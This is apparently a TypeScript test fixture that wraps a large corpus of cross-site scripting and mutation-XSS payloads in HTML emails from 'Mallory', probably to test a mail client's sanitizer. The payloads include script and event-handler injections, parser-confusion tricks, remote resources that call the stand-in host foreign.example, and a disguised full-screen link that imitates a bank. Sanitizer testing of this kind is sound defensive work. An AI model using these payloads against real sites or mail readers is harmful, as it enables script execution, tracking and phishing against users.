/**
 * HTML that tries to be more than a letter: scripts in every disguise, markup that one parser reads as words and another as an element,
 * pictures, frames, forms, styles and refreshes that call home. `foreign.example` is asked by whatever gets through.
 */
const HOME = 'http://foreign.example'
const ACT = `window.owned=1;document.title='owned';alert(1);fetch('${HOME}/x')`

const SCRIPTS = [
  `<script>${ACT}</script>`,
  `<SCRIPT SRC=${HOME}/x.js></SCRIPT>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script/x>${ACT}</script>`,
  `<<script>${ACT}//<</script>`,
  `<script\u0000>${ACT}</script>`,
  `<body onload="${ACT}">`,
  `<img src=x onerror="${ACT}">`,
  `<img/src=x/onerror=${ACT.replaceAll(' ', '')}>`,
  `<img src=x onerror\u000d=\u000a"${ACT}">`,
  `<img """><script>${ACT}</script>">`,
  `<p style="animation:x 1s" onanimationstart="${ACT}">a</p>`,
  `<details open ontoggle="${ACT}">a</details>`,
  `<input autofocus onfocus="${ACT}">`,
  `<video><source onerror="${ACT}"></video>`,
  `<audio src=x onerror="${ACT}"></audio>`,
  `<marquee onstart="${ACT}">a</marquee>`,
  `<a href="javascript:${ACT}">a</a>`,
  `<a href="jav&#x09;ascript:${ACT}">a</a>`,
  `<a href=" &#14; javascript:${ACT}">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>${ACT}</script>">b</a>`,
  `<a href="//foreign.example/%0ajavascript:alert(1)" ping="${HOME}/ping">a</a>`,
]

const MUTATIONS = [
  `<xmp><img src=x onerror="${ACT}"></xmp>`,
  `<xmp><p title="</xmp><img src=x onerror=${ACT.replaceAll(' ', '')}>"></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror='${ACT}'>"></noscript>`,
  `<textarea></textarea/><img src=x onerror="${ACT}"></textarea>`,
  `<svg><textarea><img src=x onerror="${ACT}"></textarea></svg>`,
  `<template><img src=x onerror="${ACT}"></template>`,
  `<plaintext><img src=x onerror="${ACT}">`,
  `<title><img src=x onerror="${ACT}"></title>`,
  `<iframe><img src=x onerror="${ACT}"></iframe>`,
  `<noembed><img src=x onerror="${ACT}"></noembed><noframes><img src=x onerror="${ACT}"></noframes>`,
  `<style><img src="</style><img src=x onerror='${ACT}'//">`,
  `<svg><style><img src=x onerror="${ACT}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror='${ACT}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ACT}">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${ACT}"></style></annotation-xml></math>`,
  `<table><td><svg><desc><td><style><a title="</style><img src onerror='${ACT}'>">`,
  `<select><style></select><img src=x onerror="${ACT}"></style>`,
  `<!--><img src=x onerror="${ACT}">-->`,
  `<!--[if gte mso 9]><script>${ACT}</script><![endif]--><![if !mso]><img src=x onerror="${ACT}"><![endif]>`,
  `<![CDATA[<img src=x onerror="${ACT}">]]>`,
  `<?xml version="1.0"?><?php <img src=x onerror="${ACT}"> ?>`,
  `<div title='a"><img src=x onerror="${ACT}">'>b</div>`,
  `<div title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">b</div>`,
  `&lt;img src=x onerror="${ACT}"&gt;`,
  `${'<div>'.repeat(600)}<img src=x onerror="${ACT}">`,
  `<p`,
  `</p></div></body></html><script>${ACT}</script>`,
]

const CALLS_HOME = [
  `<meta http-equiv="refresh" content="0;url=${HOME}/"><base href="${HOME}/"><img src="rel.png">`,
  `<link rel=stylesheet href="${HOME}/x.css"><style>@import url(${HOME}/y.css);body{background:url(${HOME}/z.png)}</style>`,
  `<p style="background:url('${HOME}/b.png')">a</p><p style="background:\\75rl(${HOME}/c.png)">b</p>`,
  `<p style="background-image:image-set('${HOME}/d.png' 1x);list-style-image:url(${HOME}/e.png)">c</p>`,
  `<p style="width:expression(${ACT});-moz-binding:url(${HOME}/f.xml);behavior:url(${HOME}/g.htc)">d</p>`,
  `<table background="${HOME}/h.png"><tr><td background="${HOME}/i.png">e</td></tr></table>`,
  `<img src="${HOME}/pixel.png" srcset="${HOME}/j.png 2x" lowsrc="${HOME}/k.png" dynsrc="${HOME}/l.avi">`,
  `<img src="//foreign.example/m.png"><img src="http:/foreign.example/n.png"><img src="\\\\foreign.example\\o.png">`,
  `<picture><source srcset="${HOME}/p.png"><img src="${HOME}/q.png"></picture><input type=image src="${HOME}/r.png">`,
  `<video poster="${HOME}/s.png" src="${HOME}/t.mp4" autoplay></video><bgsound src="${HOME}/u.mid">`,
  `<iframe src="${HOME}/v"></iframe><iframe srcdoc="<script>${ACT}</script>"></iframe><frameset><frame src="${HOME}/w"></frameset>`,
  `<object data="${HOME}/o1"></object><embed src="${HOME}/o2"><applet code="${HOME}/o3"></applet>`,
  `<form action="${HOME}/f1"><button formaction="${HOME}/f2">a</button><input type=submit></form>`,
  `<svg><image href="${HOME}/s1.png"/><use href="${HOME}/s2.svg#x"/></svg><svg onload="${ACT}"><animate attributeName=href values="javascript:${ACT}"/></svg>`,
  `<a href="${HOME}/prefetch" rel="prefetch dns-prefetch">a</a><link rel=dns-prefetch href="//foreign.example">`,
  `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ACT}"/>`).toString('base64')}">`,
  `<a href="https://bank.example@foreign.example/" style="position:fixed;inset:0;z-index:2147483647;opacity:0">cover</a>`,
]

export const HARMFUL_HTML: readonly string[] = [...SCRIPTS, ...MUTATIONS, ...CALLS_HOME]

/** Each piece as a letter of its own, and all of them in one. */
export function harmfulLetters(now: number): Uint8Array[] {
  return [...HARMFUL_HTML, HARMFUL_HTML.join('\n')].map((html, index) => inHtml(html, index, now - index * 60_000))
}

function inHtml(html: string, index: number, at: number): Uint8Array {
  return Buffer.from(
    `From: Mallory <mallory@foreign.example>\r\nTo: mira@salo.example\r\nSubject: Harm ${index}\r\nDate: ${new Date(at).toUTCString()}\r\n` +
      `Message-ID: <harm-${index}@foreign.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n` +
      `<html><body><p>Harm ${index}</p>${html}<p>the end</p></body></html>\r\n`,
  )
}
